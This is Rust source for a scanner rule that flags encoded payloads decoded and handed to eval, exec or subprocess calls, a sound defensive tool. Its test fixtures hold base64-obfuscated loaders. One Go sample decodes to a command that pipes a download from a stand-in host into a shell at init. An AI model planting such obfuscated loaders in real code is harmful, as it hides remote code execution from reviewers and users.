//! `AS503` obfuscated-execution: encoded data decoded and handed to `eval`, `Function`,
//! `vm`, `exec`/`compile` or a process, directly or through local variables.

use std::ops::Range;
use std::sync::LazyLock;

use assay_core::{Confidence, Example, Family, Finding, RuleMeta, Severity};
use regex::Regex;

use crate::code_patterns::CodeText;
use crate::code_patterns::apis::{EVAL, EXEC};
use crate::code_patterns::flow::Derived;
use crate::code_patterns::report::{Hit, OutsideProduction, emit};
use crate::registry::{FileContext, Rule};

/// The rule.
pub struct ObfuscatedExecution;

static META: RuleMeta = RuleMeta {
    id: "AS503",
    name: "obfuscated-execution",
    title: "Decoded data executed as code or command",
    family: Family::Malicious,
    severity: Severity::Critical,
    cwe: &[506, 94],
    owasp_mcp: "MCP05:2025",
    cvss_vector: "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:H/VI:H/VA:N/SC:H/SI:H/SA:N",
    summary: "Finds base64, hex, char-code, rot13 and zlib decoding (`Buffer.from(x, \
        \"base64\")`, `atob`, `String.fromCharCode`, `base64.b64decode`, `codecs.decode`, \
        `zlib.decompress`, `bytes.fromhex`, Go `base64.StdEncoding.DecodeString`/\
        `hex.DecodeString`) whose result reaches `eval`, `new Function`, `vm.run*`, Python \
        `exec`/`eval`/`compile`, `child_process`, `subprocess`, `os.system` or \
        `exec.Command` — in the same expression or through local variables — and string \
        literals packed with `\\x`/`\\u` escapes or long base64 handed to those sinks. A \
        decoded literal embedded in the file (a hidden payload) is critical; decoding of \
        other data is high.",
    why: "Legitimate code has no reason to hide what it runs. Encoding a payload and \
        decoding it right before execution is how malicious packages slip past review \
        and scanners; in an MCP server it runs with the user's rights the moment the \
        agent starts it.",
    remediation: "Remove the encoded payload; ship readable source. If a package really \
        needs to run generated code, generate it from readable templates and never from \
        embedded blobs.",
    references: &[
        "https://attack.mitre.org/techniques/T1027/",
        "https://attack.mitre.org/techniques/T1140/",
        "https://cwe.mitre.org/data/definitions/506.html",
    ],
    examples: &[
        Example::flags(
            "src/index.js",
            "const payload = \"Y29uc29sZS5sb2coJ2hlbGxvJyk7cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=\";\neval(Buffer.from(payload, \"base64\").toString(\"utf8\"));\n",
        ),
        Example::flags(
            "setup_hook.py",
            "import base64\n\n_c = base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=\")\nexec(compile(_c, \"<x>\", \"exec\"))\n",
        ),
        Example::flags(
            "main.go",
            "package main\n\nimport (\n\t\"encoding/base64\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tcmd, _ := base64.StdEncoding.DecodeString(\"Y3VybCBodHRwczovL2V4YW1wbGUuY29tL3ggfCBzaA==\")\n\texec.Command(\"sh\", \"-c\", string(cmd)).Start()\n}\n",
        ),
        Example::flags(
            "lib/run.js",
            "const code = String.fromCharCode(114, 101, 113, 117, 105, 114, 101, 40, 39, 111, 115, 39, 41);\nnew Function(code)();\n",
        ),
        Example::allows(
            "src/image.ts",
            "export function decodeImage(data: string): Buffer {\n  return Buffer.from(data, \"base64\");\n}\n\nexport const meta = JSON.parse(Buffer.from(process.env.META ?? \"e30=\", \"base64\").toString());\n",
        ),
        Example::allows(
            "server.py",
            "import base64\nimport subprocess\n\n\ndef thumbnail(b64: str) -> bytes:\n    raw = base64.b64decode(b64)\n    return raw[:100]\n\n\ndef git_status() -> str:\n    return subprocess.run([\"git\", \"status\"], capture_output=True, text=True).stdout\n",
        ),
        Example::allows(
            "main.go",
            "package main\n\nimport (\n\t\"encoding/base64\"\n\t\"os/exec\"\n)\n\nfunc decode(s string) []byte {\n\tb, _ := base64.StdEncoding.DecodeString(s)\n\treturn b\n}\n\nfunc version() ([]byte, error) {\n\treturn exec.Command(\"git\", \"--version\").Output()\n}\n",
        ),
    ],
};

/// Words without which this rule cannot fire: the driver calls it only on files that
/// contain one.
const KEYWORDS: &[&str] = &[
    "base64",
    "atob",
    "fromCharCode",
    "b64decode",
    "b32decode",
    "b85decode",
    "codecs.decode",
    "decompress",
    "fromhex",
    "unhexlify",
    "DecodeString",
    "inflate",
    "gunzip",
    "\\x",
    "\\u00",
];

/// Decoding calls.
static DECODER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"Buffer\.from\([^()]*(?:\([^()]*\))?[^()]*,\s*['"](?:base64|base64url|hex)['"]|\batob\s*\(|String\.fromCharCode\s*\(|\bzlib\.(?:inflate|inflateRaw|gunzip|brotliDecompress)Sync\s*\(|\bbase64\.(?:b64decode|b32decode|b85decode|a85decode|urlsafe_b64decode|decodebytes)\s*\(|\bcodecs\.decode\s*\(|\bzlib\.decompress\s*\(|\bbytes\.fromhex\s*\(|\bbinascii\.(?:unhexlify|a2b_base64|a2b_hex)\s*\(|\bbase64\.(?:Std|URL|RawStd|RawURL)Encoding\.DecodeString\s*\(|\bhex\.DecodeString\s*\(|\bgzip\.NewReader\s*\("#,
    )
    .expect("valid regex")
});

/// A literal that is itself an encoded blob: many escapes, or long base64/hex.
static ENCODED_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?:\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}){16}|^[A-Za-z0-9+/=_-]{24,}$|^[0-9a-fA-F]{40,}$",
    )
    .expect("valid regex")
});

/// Char-code lists long enough to spell a command.
static CHAR_CODES: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\d{2,3}(?:\s*,\s*\d{2,3}){7,}").expect("valid regex"));

impl Rule for ObfuscatedExecution {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn keywords(&self) -> Vec<&'static str> {
        KEYWORDS.to_vec()
    }

    fn check_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        let Some(code) = file.code() else {
            return;
        };
        let sinks: Vec<_> = EVAL.calls(code).chain(EXEC.calls(code)).collect();
        if sinks.is_empty() {
            return;
        }
        let assigns = code.assignments();
        let decoded = Derived::compute(code, assigns, |rhs| DECODER.is_match(rhs), |_| false);
        let blobs = Derived::compute(
            code,
            assigns,
            |rhs| has_encoded_literal(code, rhs),
            |_| false,
        );
        let mut hits = Vec::new();
        for call in sinks {
            let args = call.args.clone();
            let args_text = &code.code[args.clone()];
            let sink = &code.code[call.callee.clone()];
            let via = if let Some(m) = DECODER.find(args_text) {
                Some(format!("`{}…`", m.as_str().trim_end_matches('(')))
            } else {
                decoded
                    .mentioned(code, args.clone())
                    .map(|v| format!("`{v}`, which holds decoded data"))
            };
            let embedded = literal_blob_in(code, args.clone())
                || blobs.mentioned(code, args.clone()).is_some();
            let hit = match (via, embedded) {
                (Some(via), true) => Hit::new(
                    &META,
                    call.callee.start,
                    args.end + 1,
                    format!("`{sink}` runs {via}; the encoded payload is embedded in the file"),
                ),
                (Some(via), false) => Hit::new(
                    &META,
                    call.callee.start,
                    args.end + 1,
                    format!("`{sink}` runs {via}"),
                )
                .severity(Severity::High)
                .confidence(Confidence::Medium),
                (None, true) if !is_plain_sink_arg(args_text) => Hit::new(
                    &META,
                    call.callee.start,
                    args.end + 1,
                    format!("`{sink}` runs an encoded literal"),
                )
                .severity(Severity::High),
                _ => continue,
            };
            hits.push(hit);
        }
        emit(&META, file, hits, OutsideProduction::OneStepLower, out);
    }
}

/// True when `rhs` holds an encoded literal blob (or a long char-code list).
fn has_encoded_literal(code: &CodeText<'_>, rhs: &str) -> bool {
    let offset = rhs.as_ptr() as usize - code.code.as_ptr() as usize;
    literal_blob_in(code, offset..offset + rhs.len())
}

fn literal_blob_in(code: &CodeText<'_>, range: Range<usize>) -> bool {
    CHAR_CODES.is_match(&code.code[range.clone()])
        || code
            .strings_in(range)
            .any(|s| ENCODED_LITERAL.is_match(code.string_body(s)))
}

/// Short literal commands (`exec("ls")`) are not blobs.
fn is_plain_sink_arg(args: &str) -> bool {
    args.len() < 40
}
